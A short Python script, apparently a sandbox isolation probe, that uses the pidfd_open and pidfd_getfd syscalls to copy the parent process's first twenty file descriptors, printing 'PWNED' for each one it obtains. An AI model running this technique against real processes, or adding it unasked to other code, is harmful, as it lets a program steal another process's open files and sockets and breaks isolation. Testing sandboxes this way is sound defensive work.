"""Take descriptors out of the parent by a pidfd."""
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(434, os.getppid(), 0)
for fd in range(20):
    if libc.syscall(438, pidfd, fd, 0) >= 0:
        print("PWNED descriptor", fd)
